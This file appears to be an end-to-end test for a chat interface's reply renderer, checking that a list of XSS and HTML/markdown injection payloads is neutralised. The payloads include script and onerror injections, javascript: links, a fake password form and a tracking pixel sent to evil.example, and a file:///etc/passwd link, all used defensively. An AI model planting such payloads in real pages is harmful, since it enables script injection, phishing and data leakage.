// A reply that attacks the page: no script runs, nothing is loaded from elsewhere, nothing is covered.

import assert from 'node:assert/strict';

const ATTACKS = [
  '<script>globalThis.broken = "script"</script>',
  '<img src="https://evil.example/a.png" onerror="globalThis.broken = \'onerror\'">',
  '<svg onload="globalThis.broken = \'svg\'"><script>globalThis.broken = "svg script"</script></svg>',
  '<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>parent.broken = 1</script>"></iframe>',
  '<style>body { display: none } * { background: url(https://evil.example/b.png) }</style>',
  '<div style="position:fixed;inset:0;background:red" onclick="globalThis.broken = 1">cover</div>',
  '<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>',
  '<a href="javascript:globalThis.broken = \'href\'">click</a>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<math><mtext><table><mglyph><style><img src=x onerror="globalThis.broken = 1"></style></table></mtext></math>',
  '<template><img src=x onerror="globalThis.broken = 1"></template>',
  '![tracker](https://evil.example/pixel.png?q=secret)',
  '![data](data:image/svg+xml,%3Csvg%20xmlns=%22http://www.w3.org/2000/svg%22%20onload=%22alert(1)%22/%3E)',
  '[one](javascript:globalThis.broken=1) [two](JaVaScRiPt:alert(1)) [three](java&#115;cript:alert(1))',
  '[four](data:text/html,<script>alert(1)</script>) [five](vbscript:x) [six](file:///etc/passwd)',
  '[seven](//evil.example/) [eight](/api/auth/sign-out) [nine](blob:https://evil.example/x)',
  '[good](https://example.com/a?b=c&d=e) <mailto:fish@example.com> https://example.org/bare',
  '[quoted](https://example.com/"onmouseover="globalThis.broken=1)',
  '```html"><script>globalThis.broken=1</script>\n<script>globalThis.broken = "code"</script>\n```',
  '```__proto__\n{}\n```',
  '| <img src=x onerror=globalThis.broken=1> | `<b>` |\n|---|---|\n| <script>1</script> | &lt;b&gt; |',
  '&lt;script&gt;globalThis.broken = 1&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &#0; &#99999999;',
  '# <script>globalThis.broken = 1</script>',
  '- [ ] <input onfocus="globalThis.broken = 1" autofocus>',
  `${'> '.repeat(60)}deep`,
  `${'*a '.repeat(500)}`,
  `${'['.repeat(500)}`,
];

export default async function (stage) {
  const { page } = stage;
  await stage.reply({ pieces: ATTACKS.map((attack) => `${attack}\n\n`) });
  await stage.converse('<img src=x onerror="globalThis.broken = 1">');
  const titleOfAttack = '<img src=x onerror="globalThis.broken = 1">';
  await stage.titlesAre(titleOfAttack);
  await attackedInVain(stage);
  // So it is where it comes from the store, and in parts.
  await page.reload();
  await stage.idle();
  await attackedInVain(stage);

  const split = ATTACKS.slice(0, 6).join('\n\n').match(/[\s\S]{1,3}/g);
  await stage.reply({ pieces: split });
  await page.getByRole('button', { name: 'Regenerate' }).click();
  await stage.idle();
  assert.equal(await page.evaluate(() => globalThis.broken), undefined);
  await stage.screenshot('in-vain');
}

async function attackedInVain({ page }) {
  assert.equal(await page.evaluate(() => globalThis.broken), undefined);
  const said = page.locator('.reply-text');
  const forbidden = 'script, img, svg, iframe, style, form, base, meta, math, template, object, embed, button:not(.quiet)';
  assert.equal(await said.locator(forbidden).count(), 0);
  assert.equal(await said.locator('input:not([type=checkbox])').count(), 0);
  const attributes = await said.evaluate((element) => [
    ...new Set([...element.querySelectorAll('*')].flatMap((child) => child.getAttributeNames())),
  ]);
  const allowed = ['aria-label', 'checked', 'class', 'dir', 'disabled', 'href', 'rel', 'role', 'scope', 'start', 'tabindex'];
  allowed.push('target', 'type');
  assert.deepEqual(attributes.filter((name) => !allowed.includes(name)), []);
  const links = await said.locator('a').evaluateAll((all) => all.map(({ href, rel, target }) => ({ href, rel, target })));
  for (const { href, rel, target } of links) {
    assert.match(href, /^(https?:|mailto:)/);
    assert.match(rel, /noopener/);
    assert.match(rel, /noreferrer/);
    assert.equal(target, '_blank');
  }
  const hrefs = links.map(({ href }) => href);
  for (const wanted of ['https://example.com/a?b=c&d=e', 'mailto:fish@example.com', 'https://example.org/bare']) {
    assert.ok(hrefs.includes(wanted), `${wanted}: ${hrefs}`);
  }
  // The image is a link, and so is everything that remains of elsewhere.
  assert.ok(hrefs.includes('https://evil.example/pixel.png?q=secret'));
  // What was written is there to be read.
  assert.match(await said.innerText(), /<script>globalThis\.broken = "script"<\/script>/);
}
